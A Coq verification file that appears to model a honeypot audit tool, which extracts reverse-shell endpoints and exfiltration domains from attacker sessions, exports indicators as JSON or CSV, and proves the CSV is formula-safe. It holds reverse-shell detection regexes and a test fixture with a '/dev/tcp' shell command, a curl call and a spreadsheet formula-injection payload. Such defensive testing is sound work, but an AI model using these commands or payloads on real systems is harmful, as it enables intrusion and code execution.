(* ===== verification/Iocs.v ===== *)
(** tools/audit.py: the exports of an engagement -- the bundle of indicators as JSON and as
    CSV -- and the diff of its file system against the planted baseline. *)

From S2P Require Import Prelude PyStr Posix Vfs Regex Float Json CounterAI Synthetic Session Responses Logs Aggregations Sanitize AuditViews Backup Snapshots.

#[local] Open Scope exc_scope.

(** ** [r.findall(s)] for a pattern that never matches the empty string *)

Fixpoint find_matches (fuel : nat) (r : regex) (prev : option N) (s : str) : list match_ :=
  match fuel with
  | 0 => []
  | S n =>
      match s with
      | [] => []
      | c :: s' =>
          match match_at r prev s with
          | Some x =>
              let used := length s - length (m_rest x) in
              x :: find_matches n r (last (take used s)) (m_rest x)
          | None => find_matches n r (Some c) s'
          end
      end
  end.
Definition findall (r : regex) (s : str) : list match_ := find_matches (S (length s)) r None s.

(** ** [export_ioc] *)

Definition _REVSHELL_RE : regex := rx "/dev/tcp/(\\d+\\.\\d+\\.\\d+\\.\\d+)/(\\d+)"%py.
Definition _REVSHELL_NC_RE : regex := rx "\\bnc(?:at)?\\s+(?:[^\\s]+\\s+)*(\\d+\\.\\d+\\.\\d+\\.\\d+)\\s+(\\d+)"%py.
Definition _URL_RE : regex := rx "\\b(?:https?|ftp)://([\\w.-]+)(?::(\\d+))?(?:/\\S*)?"%py.

Record endpoint := mk_endpoint { ep_ip : str; ep_port : Z; ep_via : str }.
#[export] Instance endpoint_eq_dec : EqDecision endpoint.
Proof. solve_decision. Defined.
Record alert_entry := mk_alert_entry { al_name : str; al_severity : pyval; al_trigger : pyval; al_offset : pyval }.

Record iocs := mk_iocs {
  i_engagement_id : str; i_claimed_user : str; i_source_ip : str; i_first_seen : option str; i_last_seen : option str;
  i_dwell : Z; i_count : Z; i_alerts : list alert_entry; c2_endpoints : list endpoint; exfil_domains : list (str * option Z);
  i_lists : list (str * list str);      (* the sorted lists of observations, in the order of the bundle *)
  ssh_persistence_attempt : bool; reverse_shell_attempted : bool; elevated_to_root : bool
}.

(** The lists of the bundle and the observations they come from. *)
Definition LISTS : list (str * str) :=
  [("decoy_targets_probed", "decoy_targets"); ("credential_files_read", "credential_files_read");
   ("honeytokens_modified", "honeytoken_modifications"); ("payload_drops", "payload_drops");
   ("log_tampering_commands", "tampering_commands"); ("credential_search_terms", "credential_search_terms");
   ("decoys_planted", "decoys_planted"); ("decoys_swallowed", "decoys_swallowed")]%py.

Definition int_of (s : str) : exc Z := of_option (ValueError "invalid literal for int()"%py) (py_int s).

Definition endpoints_by (r : regex) (via cmd : str) : exc (list endpoint) :=
  exc_map (λ m, let* port := int_of (grp m 2) in Ok (mk_endpoint (grp m 1) port via)) (findall r cmd).

Definition endpoints_in (cmd : str) : exc (list endpoint) :=
  let* a := endpoints_by _REVSHELL_RE "bash-dev-tcp"%py cmd in
  let* b := endpoints_by _REVSHELL_NC_RE "netcat"%py cmd in Ok (a ++ b).

Definition domains_in (cmd : str) : exc (list (str * option Z)) :=
  exc_map (λ m, match grp m 2 with
                | [] => Ok (grp m 1, None)
                | p => let* port := int_of p in Ok (grp m 1, Some port)
                end) (findall _URL_RE cmd).

(** The first domain of each host. *)
Fixpoint dedupe_hosts (seen : list str) (l : list (str * option Z)) : list (str * option Z) :=
  match l with
  | [] => []
  | d :: l => if decide (d.1 ∈ seen) then dedupe_hosts seen l else d :: dedupe_hosts (d.1 :: seen) l
  end.

Definition rank_of (a : gmap str pyval) : Z := Z.of_nat (_SEV_RANK (severity_of a)).

Definition alert_of (a : str * gmap str pyval) : alert_entry :=
  mk_alert_entry a.1 (default (VStr "info"%py) (a.2 !! "severity"%py)) (default (VStr []) (a.2 !! "triggered_by"%py))
    (default VNone (a.2 !! "ts_offset_s"%py)).

(** [endpoint_order] is the order in which the set of distinct endpoints is walked. *)
Definition collect_iocs (endpoint_order : list endpoint → list endpoint) (e : engagement) : exc iocs :=
  let obs := e_observed e in
  let* by_name := by_action e in
  let* first := _iso (e_first e) in
  let* last := _iso (e_last e) in
  let* dwell := as_int (fsub (e_last e) (e_first e)) in
  let exfil := texts (obs_of "dns_exfil_commands"%py obs) in
  let rev_cmd := match obs_of "reverse_shell_command"%py obs with VStr ((_ :: _) as c) => [c] | VNone | VStr [] => [[]] | _ => [] end in
  let* c2 := exc_map endpoints_in (rev_cmd ++ exfil) in
  let* domains := exc_map domains_in exfil in
  Ok (mk_iocs (e_id e) (e_user e) (e_ip e) first last dwell (e_count e)
        (map alert_of (sort_by (λ a, rank_of a.2) by_name))
        (endpoint_order (remove_dups (concat c2))) (dedupe_hosts [] (concat domains))
        (map (λ kv, (kv.1, py_sorted (texts (obs_of kv.2 obs)))) LISTS)
        (truthy (obs_of "ssh_persistence_attempt"%py obs)) (truthy (obs_of "reverse_shell_attempted"%py obs))
        (truthy (obs_of "attempted_sudo_elevation"%py obs)
         && bool_decide ("/etc/sudoers.d/zzz_compat"%py ∈ texts (obs_of "decoys_swallowed"%py obs)))).

Definition opt_str (o : option str) : pyval := match o with Some s => VStr s | None => VNone end.
Definition str_list (l : list str) : pyval := VList (map VStr l).

Definition iocs_dict (i : iocs) : pyval := VDict
  ([("engagement_id", VStr (i_engagement_id i)); ("claimed_user", VStr (i_claimed_user i)); ("source_ip", VStr (i_source_ip i));
    ("first_seen_utc", opt_str (i_first_seen i)); ("last_seen_utc", opt_str (i_last_seen i)); ("dwell_seconds", VInt (i_dwell i));
    ("connection_count", VInt (i_count i));
    ("alerts", VList (map (λ a, VDict [("name", VStr (al_name a)); ("severity", al_severity a); ("triggered_by", al_trigger a);
                                       ("ts_offset_seconds", al_offset a)]) (i_alerts i)));
    ("c2_endpoints", VList (map (λ c, VDict [("ip", VStr (ep_ip c)); ("port", VInt (ep_port c)); ("via", VStr (ep_via c))]) (c2_endpoints i)));
    ("exfil_domains", VList (map (λ d, VDict [("host", VStr d.1); ("port", match d.2 with Some p => VInt p | None => VNone end)]) (exfil_domains i)))]
   ++ map (λ kv, (kv.1, str_list kv.2)) (i_lists i)
   ++ [("ssh_persistence_attempt", VBool (ssh_persistence_attempt i)); ("reverse_shell_attempted", VBool (reverse_shell_attempted i));
       ("elevated_to_root", VBool (elevated_to_root i))])%py.

Definition list_of (k : str) (i : iocs) : list str := default [] (assoc_get k (i_lists i)).

(** The observables of the CSV view: type, value, severity. *)
Definition observables (i : iocs) : list (str * str * str) :=
  (map (λ c, ("c2_ip", ep_ip c ++ ":" ++ str_of_Z (ep_port c), "critical")) (c2_endpoints i)
   ++ map (λ d, ("exfil_domain", d.1, "high")) (exfil_domains i)
   ++ map (λ h, ("lateral_target", h, "high")) (list_of "decoy_targets_probed" i)
   ++ map (λ p, ("credential_read", p, "high")) (list_of "credential_files_read" i)
   ++ map (λ p, ("honeytoken_modified", p, "high")) (list_of "honeytokens_modified" i)
   ++ map (λ p, ("payload_drop", p, "medium")) (list_of "payload_drops" i)
   ++ [("source_ip", i_source_ip i, "info")])%py.

Definition CSV_HEADER : list str := ["type"; "value"; "severity"; "engagement_id"; "source_ip"; "seen_at_utc"]%py.
Definition ioc_row (i : iocs) (o : str * str * str) : list str :=
  [o.1.1; _csv_safe o.1.2; o.2; take 8 (i_engagement_id i); i_source_ip i; default [] (i_last_seen i)].

Definition _ioc_to_csv (i : iocs) : str := flat_map writerow (CSV_HEADER :: map (ioc_row i) (observables i)).

Definition export_ioc (endpoint_order : list endpoint → list endpoint) (e : engagement) (as_csv : bool) : exc str :=
  let* i := collect_iocs endpoint_order e in
  Ok (if as_csv then _ioc_to_csv i else pretty 0 (plain (iocs_dict i))).

(** ** [compute_diff] *)

Section diff.
Context {G : Type} `{Random G}.

(** [load_persona]: the file of the user, or the default one. *)
Definition load_persona (yaml : str → option Persona) (user : str) : option Persona :=
  match yaml user with Some p => Some p | None => yaml "jdoe"%py end.

Definition KEEP : str := "/.keep"%py.
Definition placeholder (h : str) (base : gmap str str) (name : str) : gmap str str :=
  let full := h ++ "/"%py ++ name in
  let path := if decide (name ∈ known_dirs) then full ++ KEEP else full in
  match base !! path with Some _ => base | None => <[path := []]> base end.

(** The honeytokens of the engagement, and the placeholders of the listing. *)
Definition baseline_files (p : Persona) (eid : str) : gmap str str :=
  foldl (placeholder (home p)) (foldl (λ m pc, <[pc.1 := pc.2]> m) (∅ : gmap str str) (honeytoken_files (seeded eid : G) p).1) (home_listing p).

Definition bytes_text (n : nat) : str := str_of_Z (Z.of_nat n).

(** The line of a path that is not of the baseline. *)
Definition new_line (path body : str) : option str :=
  if endswith path KEEP || existsb (startswith path) ["/etc/"; "/var/log/"]%py then None
  else Some ((if existsb (startswith path) ["/tmp/"; "/var/tmp/"; "/dev/shm/"]%py then "+!"%py else "+ "%py)
             ++ path ++ "  ("%py ++ bytes_text (length body) ++ " bytes)"%py).

(** The line of a path of the baseline. *)
Definition old_line (deleted : list str) (current : gmap str str) (path body : str) : option str :=
  if decide (path ∈ deleted) then Some ("- "%py ++ path ++ "  (DELETED by attacker)"%py)
  else match current !! path with
       | Some now => if decide (now = body) then None
                     else if (length body =? 0) && (length now =? 0) then None
                     else Some ("M "%py ++ path ++ "  (modified: "%py ++ bytes_text (length body) ++ "->"%py ++ bytes_text (length now) ++ " bytes)"%py)
       | None => None
       end.

Definition NO_CHANGES : str := "(no changes from baseline — attacker hasn't touched anything yet)"%py.

(** The lines of the new paths, then those of the baseline. *)
Definition changes (base : gmap str str) (v : vfs_dict) : list str :=
  let current := default ∅ (d_files v) in
  omap (λ p, b ← current !! p; new_line p b) (sorted_keys (filter (λ kv, base !! kv.1 = None) current))
  ++ omap (λ p, b ← base !! p; old_line (default [] (d_deleted v)) current p b) (sorted_keys base).

Definition diff_of (base : gmap str str) (v : vfs_dict) : list str :=
  match changes base v with [] => [NO_CHANGES] | l => l end.

Definition compute_diff (yaml : str → option Persona) (e : engagement) : list str :=
  match load_persona yaml (e_user e) with
  | None => ["(no persona file available — cannot compute baseline)"%py]
  | Some p => diff_of (baseline_files p (e_id e)) (e_vfs e)
  end.
End diff.

(** ** The CSV of a bundle *)

Lemma ioc_rows_full i : Forall (λ r : list str, r ≠ []) (CSV_HEADER :: map (ioc_row i) (observables i)).
Proof. constructor; [done|]. by apply Forall_map, Forall_true. Qed.

(** C23: a spreadsheet that opens the exported CSV finds the header and then one row per
    observable of the bundle -- endpoints, domains, targets, files, the source -- with the type and the
    severity in their columns, and no value in it, whatever the attacker typed, is taken for a formula
    or breaks its row. *)
Theorem csv_exact order e text : export_ioc order e true = Ok text →
  ∃ i rows, collect_iocs order e = Ok i ∧ csv_rows text = CSV_HEADER :: rows ∧
    map (λ r, (nth 0 r [], nth 2 r [])) rows = map (λ o, (o.1.1, o.2)) (observables i) ∧
    Forall2 (λ r o, nth 1 r [] = _csv_safe o.1.2 ∧ length r = length CSV_HEADER ∧
                    formula_start (nth 1 r []) = false ∧ NEWLINE ∉ nth 1 r []) rows (observables i).
Proof.
  unfold export_ioc. intros (i & Hi & <-%Ok_inj)%exc_bind_inv. exists i, (map (ioc_row i) (observables i)).
  split; [done|]. split; [apply csv_reads_back, ioc_rows_full|]. rewrite map_map. split; [done|].
  apply Forall2_fmap_l, Forall_Forall2_diag, Forall_true. intros o. cbn [nth ioc_row].
  destruct (csv_safe_inert o.1.2) as (Hf & _ & Hn). by split_and!.
Qed.

(** A search term that is a formula, and an exfiltration command with a formula for a path. *)
Definition formula_engagement : engagement :=
  mk_engagement "engagement-1"%py "root"%py "10.0.0.9"%py (of_int 1000) (of_int 1060) 1 "/"%py
    {[ "payload_drops"%py := VList [VStr "=cmd|' /C calc'!A0"%py];
       "dns_exfil_commands"%py := VList [VStr "curl https://x.example:8443/a,b; cat < /dev/tcp/10.0.0.1/4444"%py] ]} []
    (mk_vfs_dict None None None None).

Lemma csv_exact_witness :
  ∃ text, export_ioc id formula_engagement true = Ok text ∧
    csv_rows text = CSV_HEADER ::
      [["c2_ip"; "10.0.0.1:4444"; "critical"; "engageme"; "10.0.0.9"; "1970-01-01T00:17:40Z"];
       ["exfil_domain"; "x.example"; "high"; "engageme"; "10.0.0.9"; "1970-01-01T00:17:40Z"];
       ["payload_drop"; "'=cmd|' /C calc'!A0"; "medium"; "engageme"; "10.0.0.9"; "1970-01-01T00:17:40Z"];
       ["source_ip"; "10.0.0.9"; "info"; "engageme"; "10.0.0.9"; "1970-01-01T00:17:40Z"]]%py ∧
    ∃ i, collect_iocs id formula_engagement = Ok i ∧ length (observables i) = 4.
Proof.
  eexists. split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
  destruct (csv_exact id formula_engagement _ ltac:(vm_compute; reflexivity)) as (i & rows & Hi & _ & _ & _).
  exists i. split; [done|]. vm_compute in Hi. by injection Hi as <-.
Defined.
